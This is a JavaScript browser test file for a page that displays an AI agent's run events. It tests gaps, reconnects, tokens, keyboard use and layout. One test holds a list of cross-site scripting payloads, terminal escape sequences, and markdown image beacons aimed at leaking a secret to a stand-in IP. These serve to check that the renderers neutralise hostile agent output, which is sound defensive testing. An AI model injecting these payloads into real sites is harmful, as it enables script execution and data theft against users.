/*  tests/page/page.test.mjs - what the page shows, against a gateway that misbehaves on request

    This Source Code Form is subject to the terms of the Mozilla Public
    License, v. 2.0. If a copy of the MPL was not distributed with this
    file, You can obtain one at https://mozilla.org/MPL/2.0/.
*/
import assert from "node:assert/strict";
import { test } from "node:test";
import { badge, Endless, fake, figure, MadeUpAgent, open, overflow, RAW, random, rowSeqs, runUrl, setup, shot, sleep, until } from "./lib.mjs";

const kit = setup();

/*  A finished small run of every kind of event. */
async function story(t) {
  const gateway = await fake(t, kit);
  gateway.stream("R", "Fix the ring");
  for (const _ of new MadeUpAgent((event) => gateway.put("R", event)).story()) {
    /* to the end */
  }
  return gateway;
}

const say = (gateway, content, fields = {}) =>
  gateway.put("R", { type: "agent_output", kind: "text", content, messageId: `m${content}`, ...fields });

/*  The header's "1-52, no gaps", as [52, "no gaps"]. */
async function continuity(page) {
  const [range, text] = (await page.locator(".chip-info").innerText()).split(", ");
  return [Number(range.split("–")[1].replace(/\D/g, "")), text];
}

test("a cold load subscribes, and shows what was before and what comes", async (t) => {
  const gateway = await story(t);
  const { page, strange } = await open(t, kit, gateway.url);
  await until("the newest run by itself", async () => page.url().includes("#/runs/R"));
  await until("its end", async () => (await badge(page)).startsWith("Done"));
  assert.ok(gateway.subscribed.some((message) => message.runId === "R"));
  assert.deepEqual(await continuity(page), [gateway.stream("R").events.length, "no gaps"]);
  assert.deepEqual(strange, []);
});

test("fifty random cuts: the page's set of seqs equals the gateway's", { timeout: 120_000 }, async (t) => {
  const seed = Number(process.env.SEED ?? Date.now() % 2 ** 31);
  console.log(`seed ${seed}`);
  const next = random(seed);
  const gateway = await fake(t, kit);
  gateway.stream("R", "Chaos");
  const { page } = await open(t, kit, runUrl(gateway, "R"));
  for (let cut = 0; cut < 50; cut++) {
    for (let n = Math.floor(next() * 30); n > 0; n--) {
      say(gateway, `line ${gateway.stream("R").events.length + 1}`);
    }
    await sleep(next() * 60);
    gateway.cut();
    await sleep(next() * 20);
    /* What a person does when it takes long: look at the page. The page comes back at once. */
    await page.evaluate(() => dispatchEvent(new Event("online")));
  }
  say(gateway, "the last");
  const last = gateway.stream("R").events.length;
  await until("all of it", async () => (await continuity(page).catch(() => []))[0] === last, 30_000);
  await page.locator(".feed").focus();
  const seen = [];
  await page.keyboard.press("Home");
  for (;;) {
    await sleep(40);
    const rows = await rowSeqs(page);
    seen.push(...rows.filter((seq) => seq > (seen[seen.length - 1] ?? 0)));
    if (seen[seen.length - 1] === last) {
      break;
    }
    await page.mouse.move(600, 500);
    await page.mouse.wheel(0, 400);
  }
  figure("after 50 cuts", `${seen.length} rows of ${last} events, ${gateway.subscribed.length} subscriptions`);
  assert.deepEqual(seen, Array.from({ length: last }, (_, at) => at + 1));
  assert.deepEqual(await continuity(page), [last, "no gaps"]);
});

test("a gap is one row in its place, with its bounds and its reason", async (t) => {
  const gateway = await fake(t, kit);
  gateway.stream("R", "Gap");
  const { page } = await open(t, kit, runUrl(gateway, "R"));
  say(gateway, "before");
  await until("the first", async () => (await rowSeqs(page)).length === 1);
  const { epoch, lost } = gateway.stream("R");
  for (let seq = 2; seq <= 7; seq++) {
    lost.add(seq);
  }
  gateway.say({ type: "gap", stream: "R", epoch, from: 2, to: 7, reason: "lost", counts: { agent_output: 6 }, recoverable: false });
  for (let seq = 2; seq <= 8; seq++) {
    say(gateway, `text ${seq}`);
  }
  await until("the gap and what follows", async () => (await rowSeqs(page)).join() === "1,2,8");
  const row = page.locator('.row[data-seq="2"]');
  assert.match(await row.getAttribute("class"), /\bgap\b/);
  assert.match(await row.locator(".r-text").innerText(), /events 2–7 not received \(6, .*\d\d:\d\d:\d\d\): never reached the gateway/);
  await until("the chip", async () => (await continuity(page))[1] === "1 gap");
  await shot(page, "gap-1280-light");
  lost.clear();
  gateway.say({ type: "gap_repaired", stream: "R", epoch, from: 2, to: 7 });
  await until("repaired", async () => (await rowSeqs(page)).length === 8);
});

test("the badge tells the truth: connecting, live, reconnecting, behind, lost, ended", { timeout: 60_000 }, async (t) => {
  const gateway = await fake(t, kit);
  gateway.stream("R", "States");
  const { page } = await open(t, kit, runUrl(gateway, "R"));
  await until("no events", async () => (await badge(page)) === "No events yet");
  await shot(page, "empty-1280-light");
  say(gateway, "hello");
  await until("live", async () => (await badge(page)) === "Live");
  gateway.say({ type: "backpressure", state: "slow", lagEvents: 900, lagMs: 8200 });
  await until("behind", async () => (await badge(page)) === "Behind by 8 s");
  await shot(page, "behind-1280-light");
  gateway.say({ type: "backpressure", state: "ok", lagEvents: 0, lagMs: 0 });
  gateway.stream("R").state = "lost";
  gateway.heartbeat();
  await until("lost", async () => (await badge(page)) === "Executor not heard from");
  gateway.stream("R").state = "alive";
  gateway.heartbeat();
  const { port } = gateway.server.address();
  gateway.cut();
  gateway.server.close();
  await until("reconnecting", async () => (await badge(page)).startsWith("Reconnecting"));
  await shot(page, "reconnecting-1280-light");
  assert.equal((await rowSeqs(page)).length, 1, "nothing is cleared");
  await new Promise((done) => gateway.server.listen(port, "127.0.0.1", done));
  say(gateway, "again");
  await until("live again", async () => (await badge(page)) === "Live", 20_000);
  assert.deepEqual(await rowSeqs(page), [1, 2]);
  gateway.put("R", { type: "run_failed", error: "exit status 3", reason: "exit", exitCode: 3, durationMs: 4000 });
  await until("failed", async () => (await badge(page)) === "Failed: exit 3");
  await shot(page, "failed-1280-light");
});

test("a gateway that wants a token gets one, and never in an address", async (t) => {
  const gateway = await story(t);
  gateway.token = "s3cret-token";
  const { page } = await open(t, kit, gateway.url);
  await page.getByLabel("Token").waitFor();
  await shot(page, "token-1280-light");
  await page.getByLabel("Token").fill("wrong");
  await page.getByRole("button", { name: "Connect" }).click();
  await page.getByText("not accepted").waitFor();
  await page.getByLabel("Token").fill("s3cret-token");
  await page.getByRole("button", { name: "Connect" }).click();
  await until("the run", async () => (await page.locator(".row").count()) > 0);
  assert.equal(gateway.requests.some((path) => path.includes("s3cret")), false);
  assert.equal(page.url().includes("s3cret"), false);
});

const DEEP = 100_000;
const LINE_BYTES = 10_000_000;

/*  What agents' texts have been used for. */
const PAYLOADS = [
  "<script>window.pwned=1</script>",
  "<img src=x onerror=window.pwned=1>",
  "<svg onload=window.pwned=1>",
  '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  '<a href="javascript:window.pwned=1">x</a>',
  "[x](javascript:window.pwned=1)",
  "[x](data:text/html,<script>window.pwned=1</script>)",
  "![leak](http://192.0.2.1/leak.png?secret)",
  '<img src="http://192.0.2.1/leak2.png">',
  "[x](http://192.0.2.1/ 'onmouseover=window.pwned=1')",
  "\u001b]8;;javascript:window.pwned=1\u0007click\u001b]8;;\u0007",
  "\u001b]0;title\u0007\u001b[31m<b>red</b>\u001b[0m\u001b[999999999;1H",
  "\u202eevil\u202c \u2066x\u2069 \u0000\u0007\u009b31m",
  "```html\n<script>window.pwned=1</script>\n```",
  "<style>body{display:none}</style><base href=http://192.0.2.1/>",
  "| <img src=x onerror=window.pwned=1> | b |\n|---|---|\n| <script>window.pwned=1</script> | [x](vbscript:x) |",
];

function hostile(gateway) {
  gateway.stream("R", PAYLOADS[0]);
  gateway.put("R", { type: "run_started", runNumber: 1, agent: PAYLOADS[1], model: PAYLOADS[2], cwd: "/<b>" });
  PAYLOADS.forEach((text, at) => {
    const id = `t${at}`;
    say(gateway, text);
    say(gateway, text, { kind: "thinking", blockIndex: 1 });
    say(gateway, text, { kind: "raw", blockIndex: 2 });
    for (const [tool, toolName, input] of [
      ["Bash", text, { command: text, [text]: text }],
      ["Edit", "Edit", { old_string: text, new_string: `${text}\n${text}` }],
      ["Grep", "Grep", { pattern: text }],
      ["Other", "TodoWrite", { todos: [{ content: text, status: "in_progress", activeForm: text }] }],
      ["Other", "mcp__x", { a: [text, { b: text }] }],
    ]) {
      const toolUseId = `${id}-${toolName}-${tool}`;
      gateway.put("R", { type: "agent_tool_call", toolUseId, tool, toolName, input, path: text });
      gateway.put("R", { type: "agent_tool_result", toolUseId, success: false, contentPreview: `${text}:1:${text}`, contentLength: 2 * text.length + 3, durationMs: 1, error: text });
    }
    gateway.put("R", { type: "agent_error", message: text, severity: "error", source: "agent", code: text, details: { text } });
    gateway.put("R", { type: "file_changed", path: text, action: "created" });
  });
  /* JSON as deep as it goes through JSON.parse, and not through JSON.stringify; a line of 10 MB, plain and as a terminal's. */
  const deep = gateway.put("R", { type: "agent_tool_call", toolUseId: "deep", tool: "Other", toolName: "mcp__deep", input: {} });
  deep[RAW] = JSON.stringify(deep).replace('"input":{}', `"input":{"deep":${"[".repeat(DEEP)}"<img src=x onerror=window.pwned=1>"${"]".repeat(DEEP)}}`);
  say(gateway, "x".repeat(LINE_BYTES));
  gateway.put("R", { type: "agent_tool_call", toolUseId: "long", tool: "Bash", toolName: "Bash", input: { command: "cat huge" } });
  const content = "<b>y</b>\u001b[31m".repeat(LINE_BYTES / 13);
  gateway.put("R", { type: "agent_tool_result", toolUseId: "long", success: true, contentPreview: content.slice(0, 500), contentLength: content.length, content, durationMs: 1 });
  say(gateway, `${"[".repeat(20_000)}${"*".repeat(20_000)}${"`".repeat(20_001)}`);
  gateway.put("R", { type: "run_failed", error: PAYLOADS[1], reason: "exit", exitCode: 1, durationMs: 1 });
}

test("hostile text through every renderer: nothing runs, nothing is asked for", { timeout: 120_000 }, async (t) => {
  const gateway = await fake(t, kit);
  hostile(gateway);
  const { page, strange } = await open(t, kit, runUrl(gateway, "R"));
  const reports = await page.evaluateHandle(() => {
    const seen = [];
    addEventListener("securitypolicyviolation", (event) => seen.push(`${event.violatedDirective} ${event.blockedURI}`));
    return seen;
  });
  await until("the end", async () => (await badge(page)).startsWith("Failed"));
  let looked = 0;
  const check = async () => {
    looked++;
    const bad = await page.evaluate(() => {
      const all = [...document.querySelectorAll("#app *")];
      return {
        pwned: window.pwned === 1,
        handlers: all.filter((node) => [...node.attributes].some((a) => /^on/.test(a.name))).length,
        elements: all.filter((node) => /^(script|img|iframe|object|embed|base|style|link)$/i.test(node.localName)).length,
        links: all.filter((node) => node.href && !/^(https?:|mailto:)/.test(node.href)).length,
      };
    });
    assert.deepEqual(bad, { pwned: false, handlers: 0, elements: 0, links: 0 });
  };
  for (const tab of ["tools", "output", "files", "errors", "activity"]) {
    await page.locator(`#tab-${tab}`).click();
    await sleep(150);
    await check();
  }
  for (const name of ["Raw", "Thinking"]) {
    await page.locator("#tab-output").click();
    await page.getByRole("button", { name, exact: true }).click();
    await sleep(100);
    await check();
  }
  await page.locator("#tab-activity").click();
  const last = gateway.stream("R").events.length;
  for (let seq = 1; seq <= last; seq++) {
    await page.evaluate((at) => {
      location.hash = `#/runs/R?seq=${at}`;
    }, seq);
    if (seq % 7 === 1 || seq > last - 6) {
      await page.locator(".drawer").waitFor();
      await sleep(30);
      await check();
    }
  }
  await page.locator("#tab-files").click();
  for (const file of (await page.locator(".file").all()).slice(0, 8)) {
    await file.click();
    await check();
  }
  /* And through what was built last: search, replay, the sum of a file's edits, the download of rows, the file view. */
  await page.locator("#tab-activity").click();
  await page.locator(".search input").fill("pwned");
  await until("found", async () => /^[1-9]/.test((await page.locator(".search-found").innerText()).trim()));
  await check();
  await page.locator("#tab-output").click();
  await sleep(200);
  await check();
  await page.locator("#tab-activity").click();
  await page.getByRole("button", { name: "Replay", exact: true }).first().click();
  await page.getByRole("button", { name: "max" }).click();
  await until("replayed", async () => (await badge(page)) === "Replay paused", 30_000);
  await check();
  figure("hostile text", `${PAYLOADS.length} payloads, JSON ${DEEP} deep, lines of ${LINE_BYTES / 1e6} MB, in ${last} events, looked at ${looked} times`);
  assert.deepEqual(await reports.jsonValue(), [], "no CSP report");
  assert.deepEqual(strange, [], "no error, no request elsewhere");
});

test("by keyboard alone: rows, details, failures, search, tabs, help", async (t) => {
  const gateway = await story(t);
  const { page } = await open(t, kit, runUrl(gateway, "R"));
  await until("the end", async () => (await badge(page)).startsWith("Done"));
  const selected = async () => Number(new URLSearchParams(page.url().split("?")[1]).get("seq"));
  /* The subagent's rows fold into their call, and come back. */
  const agent = page.locator(".row.t-pink");
  await agent.click();
  const inner = page.locator(".row.sub:not([hidden])");
  assert.equal(await inner.count(), 3);
  await page.keyboard.press("f");
  await until("folded", async () => (await inner.count()) === 0);
  assert.match(await agent.innerText(), /6 events folded/);
  await page.keyboard.press("f");
  await until("unfolded", async () => (await inner.count()) === 3);
  /* The address follows a little later, so that a held key does not change it too often. */
  await page.keyboard.press("g");
  await until("the first row", async () => (await selected()) === 1);
  await page.keyboard.press("j");
  await until("the next", async () => (await selected()) === 2);
  await page.keyboard.press("e");
  await until("the failure", async () => /exit 1/.test(await page.locator(".drawer").innerText()));
  const failure = await until("its address", async () => ((await selected()) > 2 ? selected() : 0));
  await page.keyboard.press("t");
  await until("the next call", async () => (await selected()) > failure);
  await page.keyboard.press("Escape");
  assert.equal(await page.locator(".drawer").count(), 0);
  await page.keyboard.press("/");
  await page.keyboard.type("s_evict_one");
  await until("found", async () => /^[1-9]/.test(await page.locator(".search-found").innerText()));
  await page.keyboard.press("Escape");
  await page.keyboard.press("n");
  await until("a match", async () => (await page.locator(".row.selected.match").count()) === 1);
  await page.keyboard.press("Escape");
  for (const [key, tab] of [["2", "Tools"], ["3", "Output"], ["4", "Files"], ["5", "Errors"], ["1", "Activity"]]) {
    await page.keyboard.press(key);
    assert.match(await page.locator('[role=tab][aria-selected="true"]').innerText(), new RegExp(`^${tab}`));
  }
  await page.keyboard.press("?");
  await page.getByRole("dialog", { name: "Keyboard shortcuts" }).waitFor();
  await page.keyboard.press("Escape");
  await until("closed", async () => (await page.getByRole("dialog").count()) === 0);
  await page.keyboard.press("End");
  assert.equal(await page.locator(".pill").count(), 0);
});

test("a permalink opens paused at its event, also when it came long ago", async (t) => {
  const gateway = await fake(t, kit);
  gateway.stream("R", "Long");
  for (let seq = 1; seq <= 30_000; seq++) {
    say(gateway, `line ${seq}`);
  }
  const { page } = await open(t, kit, runUrl(gateway, "R", "?seq=5000"));
  const row = page.locator('.row.selected[data-seq="5000"]');
  await row.waitFor({ timeout: 20_000 });
  await until("its text", async () => (await row.locator(".r-text").innerText()) === "line 5000");
  await until("all of it", async () => (await continuity(page)).join() === "30000,no gaps", 20_000);
  const box = await row.boundingBox();
  assert.ok(box && box.y > 150 && box.y < 800, `in sight at ${box?.y}`);
  assert.match(await page.locator(".drawer").innerText(), /line 5000/);
  const counted = await page.locator(".pill").innerText();
  assert.equal(counted.includes("new"), false, `what was there is not new: ${counted}`);
});

test("a feed whose box grows or shrinks goes on following", async (t) => {
  const gateway = await fake(t, kit);
  gateway.stream("R");
  for (let n = 1; n <= 200; n++) {
    say(gateway, `line ${n}`);
  }
  const { page } = await open(t, kit, runUrl(gateway, "R"), { width: 390, height: 700 });
  await page.getByText("line 200").waitFor();
  for (let turn = 0; turn < 15; turn++) {
    await page.setViewportSize({ width: 390, height: 650 + (turn % 7) * 37 });
    /* Measured in between, as any script may: the browser moves what is in the box before it says that it grew. */
    await page.evaluate((display) => {
      document.querySelector(".tabs").style.display = display;
      return document.querySelector(".feed").scrollTop;
    }, turn % 3 === 0 ? "none" : "");
    await sleep(60);
    assert.equal(await page.locator('.follow[aria-pressed="true"]').count(), 1, `turn ${turn}`);
    const left = await page.$eval(".feed", (feed) => feed.scrollHeight - feed.scrollTop - feed.clientHeight);
    assert.ok(left <= 1, `${left} px from the end`);
  }
});

test("rows that lie far apart in a long run are all filled, also those of its first events", async (t) => {
  const gateway = await fake(t, kit);
  const stream = gateway.stream("R");
  stream.events = new Endless((seq) => ({
    ...(seq % 1000 === 1 ? { type: "agent_error", severity: "error", message: `error ${seq}` } : { type: "agent_output", kind: "text", content: "on" }),
    ...{ runId: "R", workOrderId: "R", seq, messageId: `m${seq}`, timestamp: new Date(Date.UTC(2026, 0, 1) + seq).toISOString() },
  }));
  stream.events.length = 60_000;
  const { page } = await open(t, kit, runUrl(gateway, "R", "?tab=errors"));
  await until("all of it", async () => (await page.locator(".chip-info").innerText()).endsWith("no gaps"));
  await page.locator(".feed").focus();
  await page.keyboard.press("Home");
  const filled = () => page.$$eval(".row:not([hidden])", (rows) => rows[0]?.dataset.seq && rows.every((row) => row.innerText.includes(`error ${row.dataset.seq}`)) && rows.length);
  assert.ok((await until("every row has its words", filled)) > 20);
  assert.equal(await page.locator('.row[data-seq="1"]:not([hidden])').count(), 1);
});

test("a newer journal of the run begins anew", async (t) => {
  const gateway = await fake(t, kit);
  gateway.stream("R", "Again");
  const { page } = await open(t, kit, runUrl(gateway, "R"));
  say(gateway, "old 1");
  say(gateway, "old 2");
  await until("two", async () => (await rowSeqs(page)).length === 2);
  gateway.restart("R");
  say(gateway, "new 1");
  await until("one", async () => (await rowSeqs(page)).join() === "1");
  assert.equal(await page.locator('.row[data-seq="1"] .r-text').innerText(), "new 1");
});

test("pictures of every tab at 1280 and 390 px, light and dark", { timeout: 120_000 }, async (t) => {
  const gateway = await story(t);
  const { page, strange } = await open(t, kit, runUrl(gateway, "R"));
  await until("the end", async () => (await badge(page)).startsWith("Done"));
  for (const tab of ["activity", "tools", "output", "files", "errors"]) {
    await page.locator(`#tab-${tab}`).click();
    await page.locator(`#panel-${tab}`).waitFor();
    for (const width of [1280, 390]) {
      await page.setViewportSize({ width, height: width > 700 ? 800 : 844 });
      for (const colorScheme of ["light", "dark"]) {
        await page.emulateMedia({ colorScheme });
        const wide = await overflow(page);
        assert.ok(wide <= 0, `${tab} at ${width}: ${wide} px too wide`);
        await shot(page, `${tab}-${width}-${colorScheme}`);
      }
    }
  }
  assert.deepEqual(strange, []);
});
